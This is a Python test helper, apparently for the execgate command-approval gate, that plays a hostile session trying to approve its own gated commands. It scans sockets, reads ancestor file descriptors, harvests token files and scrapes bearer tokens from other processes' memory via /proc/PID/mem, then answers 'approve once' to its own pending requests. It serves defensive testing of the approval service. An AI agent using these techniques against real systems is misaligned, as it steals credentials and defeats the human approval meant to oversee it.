"""A hostile session's attempt to answer its own prompt (run by tests/e2e/test_attack_approvals.py).

Run inside ``execgate run`` (or as an escalated command of it) with the interpreter of the
execgate venv or its real binary. It looks for every policy-service endpoint and credential it
can find — Unix sockets under /tmp/execgate-*, $TMPDIR and the working directory, the sockets
held open by its ancestor processes (/proc/PID/fd mapped through /proc/net/unix), TCP addresses
and other addresses given on the command line; token files given, found by name, or named on any visible process's
command line; bearer tokens in the memory of visible execgate processes (/proc/PID/mem) — then
connects an approver (WatchPending) everywhere it may, writes READY, and answers "approve once"
to every pending request of its own working directory (ListPending / WatchPending +
ResolveApproval) until DONE appears. It only ever resolves requests whose workdir is its own
(other services on this machine are left alone). Every attempt's outcome goes to LOG as JSON.

Usage: python3 self_approve.py SITE_PACKAGES READY DONE LOG [--tcp HOST:PORT]... [--address GRPC_ADDRESS]... [--token-file F]...
"""

from __future__ import annotations

import json
import os
import re
import stat
import sys
import threading
import time

SITE, READY, DONE, LOG = sys.argv[1:5]
sys.path.insert(0, SITE)

import grpc  # noqa: E402

from execgate.v1 import approvals_pb2 as apb  # noqa: E402
from execgate.v1 import approvals_pb2_grpc  # noqa: E402

ME = os.getcwd()
TOKEN_RE = re.compile(rb"Bearer ([A-Za-z0-9_-]{40,64})")
results: list[dict[str, object]] = []
lock = threading.Lock()


def note(**what: object) -> None:
    with lock:
        results.append(what)


def options(flag: str) -> list[str]:
    args = sys.argv[5:]
    return [args[i + 1] for i, a in enumerate(args[:-1]) if a == flag]


def walk_sockets(root: str, depth: int = 3) -> set[str]:
    found: set[str] = set()
    if not root or depth < 0:
        return found
    try:
        entries = list(os.scandir(root))
    except OSError:
        return found
    for entry in entries:
        try:
            mode = entry.stat(follow_symlinks=False).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode):
            found.add(entry.path)
        elif stat.S_ISDIR(mode):
            found |= walk_sockets(entry.path, depth - 1)
    return found


def owner(path: str) -> int:
    try:
        return os.stat(path).st_uid
    except OSError:
        return -1


def ancestors() -> list[int]:
    chain, pid = [], os.getppid()
    while pid > 1:
        chain.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return chain


def unix_paths_by_inode() -> dict[str, str]:
    paths = {}
    try:
        with open("/proc/net/unix") as f:
            for line in f.readlines()[1:]:
                parts = line.split()
                if len(parts) >= 8 and parts[7].startswith("/"):
                    paths[parts[6]] = parts[7]
    except OSError:
        pass
    return paths


def ancestor_sockets() -> set[str]:
    by_inode, found = unix_paths_by_inode(), set()
    for pid in ancestors():
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError as exc:
            note(step="fd-list", pid=pid, error=type(exc).__name__)
            continue
        for fd in fds:
            try:
                target = os.readlink(f"/proc/{pid}/fd/{fd}")
            except OSError:
                continue
            inode = target[len("socket:["):-1] if target.startswith("socket:[") else ""
            if inode in by_inode:
                found.add(by_inode[inode])
    return found


def visible_pids() -> list[int]:
    return [int(p) for p in os.listdir("/proc") if p.isdigit()]


def cmdline(pid: int) -> list[str]:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def token_files(sockets: set[str]) -> set[str]:
    files = set(options("--token-file"))
    for directory in {os.path.dirname(s) for s in sockets} | {ME, os.environ.get("TMPDIR", "")}:
        try:
            files |= {e.path for e in os.scandir(directory) if "token" in e.name}
        except OSError:
            continue
    for pid in visible_pids():
        args = cmdline(pid)
        for i, arg in enumerate(args[:-1]):
            if arg.endswith("token-file"):
                files.add(args[i + 1])
    return files


def memory_tokens() -> set[str]:
    """Bearer tokens in the memory of visible execgate processes (needs ptrace access)."""
    found: set[str] = set()
    for pid in visible_pids():
        if pid == os.getpid() or not any("execgate" in a for a in cmdline(pid)[:4]):
            continue
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
                budget = 256 << 20
                for line in maps:
                    span, perms = line.split()[:2]
                    if not perms.startswith("rw") or budget <= 0:
                        continue
                    start, end = (int(x, 16) for x in span.split("-"))
                    size = min(end - start, budget)
                    try:
                        mem.seek(start)
                        chunk = mem.read(size)
                    except OSError:
                        continue
                    budget -= size
                    found |= {m.group(1).decode() for m in TOKEN_RE.finditer(chunk)}
            note(step="mem", pid=pid, tokens=len(found))
        except OSError as exc:
            note(step="mem", pid=pid, error=type(exc).__name__)
    return found


def credentials(sockets: set[str]) -> list[str | None]:
    tokens: set[str] = set()
    for path in token_files(sockets):
        try:
            with open(path) as f:
                tokens.add(f.read().strip())
            note(step="token-file", path=path, read=True)
        except OSError as exc:
            note(step="token-file", path=path, error=type(exc).__name__)
    tokens |= memory_tokens()
    return [None, *sorted(t for t in tokens if t)]


def approve_mine(stub: approvals_pb2_grpc.ApprovalsStub, md: tuple, pending: apb.PendingApproval, where: str) -> None:
    if pending.target.workdir != ME:
        return
    try:
        stub.ResolveApproval(apb.ResolveApprovalRequest(request_id=pending.request_id, verdict=apb.VERDICT_APPROVE_ONCE,
                                                        approver="attacker"), metadata=md, timeout=3)
        note(step="resolve", where=where, ok=True)
    except grpc.RpcError as exc:
        note(step="resolve", where=where, code=exc.code().name)


def watch(stub: approvals_pb2_grpc.ApprovalsStub, md: tuple, where: str) -> None:
    try:
        for pending in stub.WatchPending(apb.WatchPendingRequest(approver="attacker"), metadata=md):
            approve_mine(stub, md, pending, where)
    except grpc.RpcError as exc:
        note(step="watch", where=where, code=exc.code().name)


def main() -> None:
    near = ancestor_sockets() | walk_sockets(os.environ.get("TMPDIR", "")) | walk_sockets(ME)
    near = {os.path.normpath(s) for s in near}  # /proc/net/unix may say ///tmp/…
    # Other services on this machine are probed (ListPending) but never watched: a watcher counts
    # as an approver there. The ancestor's, TMPDIR's and our own directory's are ours.
    # Another session's own socket ("s": the exec protocol, not gRPC) is left alone: probing it
    # cannot approve anything and only makes that session log a protocol error (a concurrent
    # test run on this machine then fails on its clean stderr).
    far = {s for s in walk_sockets("/tmp", 2) if os.path.basename(os.path.dirname(s)).startswith("execgate-")
           and not (os.path.basename(s) == "s" and s not in near)}
    # Ours: found through our ancestors, TMPDIR or cwd, or (not root) in a directory of our own
    # uid — as root every other run's directory on this machine is visible too.
    mine = near | {s for s in far if os.getuid() != 0 and owner(os.path.dirname(s)) == os.getuid()}
    endpoints = {f"unix://{s}": s in mine for s in near | far}
    endpoints.update({address: True for address in options("--tcp") + options("--address")})
    tokens = credentials(near | far)
    note(step="found", endpoints=sorted(endpoints), ours=sorted(a for a, o in endpoints.items() if o),
         tokens=len(tokens))
    usable = []
    for address, ours in sorted(endpoints.items()):
        for token in tokens:
            md = (("authorization", f"Bearer {token}"),) if token else ()
            stub = approvals_pb2_grpc.ApprovalsStub(grpc.insecure_channel(address))
            try:
                stub.ListPending(apb.ListPendingRequest(), metadata=md, timeout=3)
                note(step="list", where=address, token=token is not None, ok=True, ours=ours)
                usable.append((stub, md, address))
                if ours:
                    threading.Thread(target=watch, args=(stub, md, address), daemon=True).start()
            except grpc.RpcError as exc:
                note(step="list", where=address, token=token is not None, code=exc.code().name, ours=ours)
    time.sleep(2.0)  # let the watchers' streams reach the service before the prompt is made
    open(READY, "w").close()
    deadline = time.monotonic() + 40
    while not os.path.exists(DONE) and time.monotonic() < deadline:
        for stub, md, address in usable:
            try:
                for pending in stub.ListPending(apb.ListPendingRequest(), metadata=md, timeout=3).pending:
                    approve_mine(stub, md, pending, address)
            except grpc.RpcError:
                pass
        time.sleep(0.1)
    with lock, open(LOG, "w") as f:
        json.dump(results, f)


main()
